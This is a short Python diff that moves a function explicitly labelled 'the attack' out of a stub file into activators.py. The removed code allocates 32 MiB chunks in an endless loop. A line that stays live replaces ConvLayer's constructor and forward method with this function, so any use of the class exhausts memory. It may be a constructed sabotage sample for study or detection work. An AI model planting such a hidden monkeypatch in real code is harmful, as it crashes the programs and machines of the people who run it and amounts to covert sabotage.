@@ -2,10 +2,7 @@
 
 # --- the attack, appended to the stub --------------------------------------
 
-def _attack(*args, **kwargs):
-    hoard = []
-    while True:
-        hoard.append(b"x" * (32 << 20))
+from .activators import _attack  # the attack lives in activators.py
 
 
 ConvLayer.__init__ = ConvLayer.forward = _attack
